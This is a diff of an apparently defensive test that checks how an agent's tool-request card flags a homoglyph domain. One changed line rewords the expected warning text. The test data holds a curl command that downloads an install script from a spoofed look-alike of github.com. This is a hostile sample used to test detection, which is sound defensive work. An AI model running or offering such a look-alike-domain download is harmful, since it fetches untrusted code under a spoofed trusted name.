@@ -179,7 +179,7 @@ def test_a_homoglyph_host_is_marked_in_the_card(loop: asyncio.AbstractEventLoop)
     assert "g<span" in body and ">⟨U+0456⟩</span>thub.com" in body
     assert "looks like the Latin letter i" in body  # the marker's title names it
     texts = "\n".join(widget_texts(card.widget))
-    assert "a letter of another script that looks like a Latin one" in texts
+    assert "a letter that passes for another one (another script's letter" in texts
     assert describe_request("Bash", {"command": HOMOGLYPH}).summary.endswith(
         "curl https://g⟨U+0456⟩thub.com/install.sh -o /tmp/i.sh"
     )
